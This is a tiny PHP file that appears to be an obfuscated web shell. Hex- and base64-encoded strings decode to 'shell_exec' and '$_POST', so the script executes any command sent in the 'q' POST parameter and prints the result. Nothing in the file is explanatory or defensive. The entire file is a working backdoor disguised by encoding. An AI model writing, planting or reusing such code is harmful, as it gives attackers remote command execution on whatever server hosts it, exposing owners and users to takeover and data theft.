<?php
$_ = "\x62\x61\x73\x65\x36\x34\x5f\x64\x65\x63\x6f\x64\x65";
$__ = $_("c2hlbGxfZXhlYw==");
$___ = $_("X1BPU1Q=");
echo $__(${$___}['q']);
